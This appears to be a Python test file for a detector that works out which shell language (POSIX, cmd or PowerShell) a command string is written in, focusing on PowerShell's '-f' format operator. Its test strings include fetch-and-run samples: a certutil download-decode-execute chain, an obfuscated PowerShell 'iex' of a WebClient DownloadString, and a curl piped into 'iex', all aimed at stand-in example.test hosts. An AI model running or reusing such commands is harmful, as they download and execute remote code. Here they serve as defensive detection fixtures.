"""PowerShell's format operator ("-f ") is also every shell's commonest option: beside another
language's markers it is no sign of PowerShell on its own (interpret/sniff.py)."""

from __future__ import annotations

from app.detection.interpret.sniff import languages

INSTALL = (
    "version=$(curl -s https://api.example.test/releases/latest | cut -d '\"' -f 4)\n"
    "curl -lo https://dl.example.test/${version}/tool.deb\nsudo dpkg -i tool.deb"
)


CERTUTIL = (
    "cmd /c certutil -urlcache -f https://a.example.test/a.txt %tmp%\\a.txt & "
    "certutil -decode %tmp%\\a.txt %tmp%\\a.exe & %tmp%\\a.exe"
)


def test_a_shell_option_beside_a_shells_markers_is_read_by_the_shell_alone() -> None:
    assert languages(INSTALL) == ["posix"]
    assert languages("[ -f /usr/bin/curl ] && chmod +x a.sh && ./a.sh") == ["posix"]
    assert languages(CERTUTIL) == ["cmd"]


def test_the_format_operator_still_counts_where_powershell_shows_more_or_nothing_else_shows() -> (
    None
):
    # PowerShell's only sign, beside no other language's: still read as PowerShell
    assert languages("certutil -urlcache -f https://a.example.test/a.exe a.exe && a.exe") == [
        "powershell"
    ]
    # the operator with one more of PowerShell's signs (an assignment, a call by name)
    assert "powershell" in languages("$u = '{0}{1}' -f 'ht','tps://a.example.test'; chmod +x a.sh")
    assert "powershell" in languages("&('{1}{0}' -f 'ex','i') (curl -s https://a.example.test)")


def test_the_operator_between_a_format_and_its_values_counts_beside_another_languages_marker() -> (
    None
):
    # '' is also a shell's marker (an empty word): the operator still makes it PowerShell
    lure = "iex ('(New-Object Net.{0}).{1}(''https://a.example.test/a'')' -f 'WebClient','DownloadString')"
    assert "powershell" in languages(lure.lower())
    # an option after a quoted value and before a number (cut -d '"' -f 4) is no operator
    assert "powershell" not in languages(INSTALL)
